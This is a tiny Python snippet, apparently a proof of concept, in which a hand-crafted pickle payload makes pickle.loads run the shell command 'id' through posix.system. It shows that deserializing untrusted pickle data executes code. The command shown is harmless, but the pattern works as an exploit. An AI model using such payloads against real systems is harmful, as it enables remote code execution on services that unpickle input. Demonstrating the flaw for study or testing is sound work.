import pickle
payload = b"cposix\nsystem\n(S'id'\ntR."
pickle.loads(payload)
